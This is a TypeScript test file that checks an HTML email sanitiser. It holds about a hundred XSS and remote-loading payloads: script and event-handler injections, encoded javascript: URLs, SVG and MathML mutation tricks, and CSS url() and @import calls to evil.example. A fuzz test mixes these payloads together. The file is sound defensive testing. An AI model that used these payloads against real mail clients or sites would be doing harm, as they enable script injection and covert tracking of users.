import fc from 'fast-check';
import rehypeParse from 'rehype-parse';
import { unified } from 'unified';
import { describe, expect, test } from 'vitest';
import { allowedTags } from './html-tags';
import { attribute, type HtmlElement, type HtmlNode } from './html-tree';
import { mailPage } from './html-view';

const payloads = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<script/x>alert(1)</script/x><b>',
  '<script><!--<script></script>--><img src=x onerror=alert(1)></script>',
  '<img src=x onerror=alert(1)>',
  '<img/src=x/onerror=alert(1)>',
  '<IMG SRC=x OnErRoR="alert(1)">',
  '<img src="x` `<script>alert(1)</script>"` `>',
  '<img src=x onerror\n=\nalert(1)>',
  '<img """><script>alert(1)</script>">',
  '<img src="javascript:alert(1)">',
  '<body onload=alert(1)><p onclick=alert(1)>x',
  '<div onmouseover="alert(1)" style="width:100%">x</div>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href=" \u0001javascript:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="java&#10;script:alert(1)">x</a>',
  '<a href="&#106;avascript&colon;alert(1)">x</a>',
  '<a href="&#x6A&#x61vascript&#58;alert(1)">x</a>',
  '<a href="javascript&Tab;:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="view-source:https://x.example">x</a><a href="file:///etc/hosts">x</a><a href="blob:https://x.example/1">x</a>',
  '<a href="https://x.example" ping="https://evil.example" target=_self rel=opener>x</a>',
  '<img src="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=">',
  '<img src="data:text/html;base64,PHNjcmlwdD4=">',
  '<img src="data:image/png;base64,AAAA" srcset="https://evil.example/a 2x" lowsrc="https://evil.example/b">',
  '<img srcset="//evil.example/a 1x"><picture><source srcset="//evil.example/b"><img></picture>',
  '<image src=x onerror=alert(1)>',
  '<img src="//evil.example/track">',
  '<img src="\\\\evil.example\\track">',
  '<img src="ht\ntps://evil.example/track">',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<svg><a xlink:href="javascript:alert(1)"><text y=20>x</text></a></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></foreignObject></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<math><mi//xlink:href="data:x,<script>alert(1)</script>">',
  '<form><math><mtext></form><form><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=alert(1) src=1>">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<noembed><img title="</noembed><img src onerror=alert(1)>"></noembed>',
  '<xmp><p title="</xmp><svg/onload=alert(1)>">',
  '<textarea><img title="</textarea><img src=x onerror=alert(1)>">',
  '<title><a title="</title><img src=x onerror=alert(1)>">',
  '<style><a title="</style><img src=x onerror=alert(1)>">',
  '<style></style/><img src=x onerror=alert(1)>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<!---><img src=x onerror=alert(1)>',
  '<!-- --!><img src=x onerror=alert(1)> -->',
  '<![CDATA[><img src=x onerror=alert(1)>]]>',
  '<!--[if mso]><script>alert(1)</script><![endif]-->',
  '<?xml version="1.0"?><img src=x onerror=alert(1)>',
  '<template><script>alert(1)</script></template>',
  '<plaintext><script>alert(1)</script>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;">',
  '<object data="javascript:alert(1)"><embed src="//evil.example/x.swf"></object><applet code=x>',
  '<frameset><frame src="javascript:alert(1)"></frameset>',
  '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
  '<base href="https://evil.example/"><a href="x">x</a><img src="x">',
  '<link rel=stylesheet href="//evil.example/x.css">',
  '<form action="https://evil.example"><input name=p type=password onfocus=alert(1) autofocus><button formaction=javascript:alert(1)>',
  '<select><style></select><img src=x onerror=alert(1)></style>',
  '<video src=x onerror=alert(1) poster=//evil.example></video><audio src=//evil.example><track src=//evil.example>',
  '<details open ontoggle=alert(1)><summary>x</summary></details><marquee onstart=alert(1)>x</marquee>',
  '<table background="https://evil.example/b.png"><td background="//evil.example/c.png">x</table>',
  '<div style="background:url(https://evil.example/a)">x</div>',
  '<div style="background:u\\72l(https://evil.example/a)">x</div>',
  '<div style="background:ur/**/l(https://evil.example/a)">x</div>',
  '<div style="background:URL( \'//evil.example/a\' )">x</div>',
  '<div style="background:image-set(\'https://evil.example/a\' 1x)">x</div>',
  '<div style="background:url(javascript:alert(1));width:expression(alert(1))">x</div>',
  '<div style="behavior:url(x.htc);-moz-binding:url(//evil.example/x#y)">x</div>',
  '<div style="position:fixed;inset:0">x</div><div style="position:\\66ixed">x</div><div style="POSITION: absolute !important">x</div>',
  '<div style="--a:url(//evil.example);background:var(--a)">x</div>',
  '<div style="content:\'a\nb;background:url(//evil.example/a)">x</div>',
  '<div style="content:\'a url(data:image/png;base64,AAAA) b\';font-family:&quot;url(//evil.example/a)&quot;">x</div>',
  '<style>@import "https://evil.example/x.css";</style>',
  '<style>@import url(//evil.example/x.css);@\\69mport "//evil.example/y.css";</style>',
  '<style>@font-face{font-family:x;src:url(//evil.example/x.woff)}</style>',
  '<style>p{background:url(//evil.example/a)}@media screen{p{background:url(//evil.example/b)}}</style>',
  '<style>p{color:red;}</style ><style>a[title="</style><img src=x onerror=alert(1)>"]{}</style>',
  '<style>p{x:"}*{background:url(//evil.example/a)}</style>',
  '<style>p{a:b}}*{position:fixed}@media print{*{position:absolute;background:\\75rl(//evil.example)}</style>',
  '<style><!-- p{background:url("//evil.example/a") --></style>',
  '<style>@supports (color:red){p{background:url(//evil.example/a)}}@namespace url(//evil.example/a);</style>',
  "<img src='https://evil.example/?",
  '<a href="https://evil.example/?',
  '<p title="<img src=x onerror=alert(1)>">x</p>',
  "<p title='\"><img src=x onerror=alert(1)>'>x</p>",
  '<x-y onclick=alert(1)>x</x-y><o:p onclick=alert(1)>x</o:p>',
  '<a name=body id=getElementById href=https://x.example>x</a><img name=cookie id=location>',
  '<<script>alert(1)//<</script>',
  '<p<script>alert(1)</script>',
  '<\u0000script>alert(1)</script>',
  '\u00001<img src=x o\u0000nerror=alert(1)>',
  '</p x="<img src=x onerror=alert(1)>">',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
];

const documentTags = new Set([...allowedTags, 'html', 'head', 'meta', 'title', 'base', 'body', 'details', 'summary']);
const documentAttributes = new Set(
  `abbr align alt background bgColor border cellPadding cellSpacing char charOff charSet className clear color colSpan compact content
  dateTime dir face frame headers height href hSpace id lang media name noShade noWrap rel reversed role rowSpan rules scope size
  span src start style summary target title type vAlign value vSpace width`.split(/\s+/),
);
const parser = unified().use(rehypeParse).freeze();

function elements(node: HtmlNode | ReturnType<typeof parser.parse>): HtmlElement[] {
  if (!('children' in node)) return [];
  const own = node.type === 'element' ? [node] : [];
  return [...own, ...node.children.flatMap((child) => elements(child))];
}

function expectQuietStyle(css: string) {
  expect(css).not.toMatch(
    /@(?!media\b)|\\|<|expression\s*\(|-moz-binding|behavior\s*:|image-set|position\s*:\s*(?!static|relative)/i,
  );
  expect(css.replaceAll(/url\("data:image\/[^"]*"\)/g, '')).not.toMatch(/url\s*\(|\/\//i);
}

function expectSafe(page: string) {
  const found = elements(parser.parse(page));
  expect(found.filter(({ tagName }) => ['html', 'head', 'body', 'base', 'title'].includes(tagName))).toHaveLength(5);
  expect(found.filter(({ tagName }) => tagName === 'meta')).toHaveLength(3);
  for (const element of found) {
    expect(documentTags).toContain(element.tagName);
    for (const name of Object.keys(element.properties)) expect(documentAttributes).toContain(name);
    const isOurs = element.tagName === 'meta';
    if (!isOurs && attribute(element, 'id')) expect(attribute(element, 'id')).toMatch(/^mail-/);
    if (!isOurs && attribute(element, 'name')) expect(attribute(element, 'name')).toMatch(/^mail-/);
    if (element.tagName === 'a') expect(attribute(element, 'rel')).toBe('noopener noreferrer nofollow');
    if ('href' in element.properties) expect(attribute(element, 'href')).toMatch(/^(?:https?:\/\/|mailto:|tel:)/);
    if ('src' in element.properties)
      expect(attribute(element, 'src')).toMatch(/^data:image\/(?:png|jpe?g|gif|webp);base64,[\w+/=]*$/i);
    expect(element.properties).not.toHaveProperty('background');
    expectQuietStyle(attribute(element, 'style'));
    if (element.tagName === 'style') {
      const css = element.children.map((child) => (child.type === 'text' ? child.value : '')).join('');
      expectQuietStyle(css);
    }
  }
}

const show = (html: string) => mailPage({ html, remoteImages: false, imageUrlOf: () => null }).page;
const bodyOf = (page: string) => page.slice(page.indexOf('<body>') + '<body>'.length, page.lastIndexOf('</body>'));

describe('hostile mail', () => {
  test.each(payloads)('%s', (payload) => {
    const page = show(`<p>Before</p>${payload}<p>After</p>`);
    expectSafe(page);
    expect(page).toContain('Before');
  });

  test('inside tables, lists, quotes and attributes', () => {
    for (const payload of payloads) {
      expectSafe(show(`<table><tr>${payload}<td>${payload}</table>`));
      expectSafe(show(`<ul><li><b><i>${payload}</b><blockquote type=cite>${payload}`));
      expectSafe(show(`<p title="${payload}">x</p><p title='${payload}'>`));
      expectSafe(show(`<style>${payload}</style><!-- ${payload} --><svg>${payload}</svg>${payload}`));
    }
  });

  test('in any mixture, and once more through what came out', () => {
    const piece = fc.oneof(
      fc.constantFrom(...payloads),
      fc.constantFrom(
        '<table>',
        '</table>',
        '<td>',
        '<p>',
        '</p>',
        '<b>',
        '</b>',
        '<svg>',
        '</svg>',
        '<math>',
        '<style>',
        '</style>',
      ),
      fc.constantFrom(
        '<!--',
        '-->',
        '"',
        "'",
        '>',
        '<',
        '/',
        '=',
        '&',
        '\\',
        '{',
        '}',
        'url(',
        '@import',
        '<a href="',
        ' onclick=',
        '\n',
      ),
      fc.string({ maxLength: 6 }),
    );
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 12 }), (pieces) => {
        const page = show(pieces.join(''));
        expectSafe(page);
        expectSafe(show(bodyOf(page)));
      }),
      { numRuns: 300 },
    );
  });

  test('of any payload, once more through what came out', () => {
    for (const payload of payloads) expectSafe(show(bodyOf(show(payload))));
  });
});
